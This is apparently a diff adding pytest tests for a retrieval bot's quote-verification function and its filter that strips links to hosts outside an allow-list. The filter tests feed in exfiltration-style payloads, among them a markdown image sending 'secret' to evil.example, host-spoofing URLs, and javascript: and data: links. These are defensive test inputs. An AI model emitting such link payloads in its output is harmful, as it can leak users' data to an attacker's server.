@@ -1,0 +1,76 @@
+"""Quotes that are checked, and links that do not leave."""
+
+import pytest
+
+from codex32.services.retrieval.links import without_foreign_links
+from codex32.services.retrieval.quoting import status_of
+
+TEXTS = [
+    "A step is *retried* when its fault says that trying again can help.\nThe pause grows.",
+    "Secrets are looked up in the encrypted store of the workspace, then in the others.",
+]
+
+
+@pytest.mark.parametrize(
+    ("quote", "cited", "status", "place"),
+    [
+        ("trying again can help", 0, "supported", 0),
+        ("a step is retried  WHEN its\nfault", 0, "supported", 0),
+        ("\u201ctrying again can help\u201d", 0, "supported", 0),
+        ("the encrypted store of the workspace", 0, "misattributed", 1),
+        ("the encrypted store of the workspace", None, "misattributed", 1),
+        ("A step is retried ... then in the others", 0, "stitched", None),
+        ("A step is retried when its fault looked up in the encrypted store", 0, "stitched", None),
+        ("A step is never retried", 0, "absent", None),
+        ("trying again can not help", 0, "absent", None),
+        ("A step is retried [...] on every second Tuesday", 0, "absent", None),
+        ("step", 0, "absent", None),
+        ("", 0, "absent", None),
+        ("... ...", 0, "absent", None),
+    ],
+)
+def test_a_quote_is_what_it_is(quote, cited, status, place):
+    assert status_of(quote, cited, TEXTS) == (status, place)
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("![x](https://evil.example/?q=secret)", "x [link removed]"),
+        ("see [here](https://evil.example/a)", "see here [link removed]"),
+        ("see [here](https://docs.example.com/a)", "see here (https://docs.example.com/a)"),
+        ("![x](https://docs.example.com/a.png)", "![x](https://docs.example.com/a.png)"),
+        ("https://evil.example/x, yes", "[link removed] yes"),
+        ("//evil.example/x", "[link removed]"),
+        ("www.evil.example/x", "[link removed]"),
+        ("https://docs.example.com/x", "https://docs.example.com/x"),
+        ("https://a.sub.example.org/x", "https://a.sub.example.org/x"),
+        ("https://docs.example.com@evil.example/x", "[link removed]"),
+        ("https://docs.example.com.evil.example/x", "[link removed]"),
+        ("https://evil.example\\@docs.example.com/", "[link removed]"),
+        ("<img src=https://evil.example/x>", ""),
+        ("<img src='https://evil.example/x'", ""),
+        ("<https://evil.example/x>", "<[link removed]>"),
+        ("[x]: https://evil.example/x\ntext [x]", "\ntext [x]"),
+        ("[x](javascript:alert(1))", "x [link removed])"),
+        ("data:text/html;base64,xxx", "[link removed]"),
+        ("a < b and c > d", "a < b and c > d"),
+    ],
+)
+def test_only_links_to_hosts_of_the_bot_leave(text, left):
+    hosts = ("docs.example.com", "*.sub.example.org")
+    assert without_foreign_links(text, hosts) == left
+
+
+def test_no_spelling_of_an_address_leaves():
+    for text in (
+        "[a](<https://evil.example/ x>)",
+        "![a]( https://evil.example/x 'title')",
+        "[a](HTTPS://EVIL.EXAMPLE/x)",
+        "[![a](https://evil.example/1)](https://evil.example/2)",
+        "![a][r]\n\n[r]: https://evil.example/x",
+        '<a href="https://evil.example">x</a>',
+        "ftp://evil.example/x",
+        "[a](//evil.example)",
+    ):
+        assert "evil" not in without_foreign_links(text, ("docs.example.com",)).lower(), text
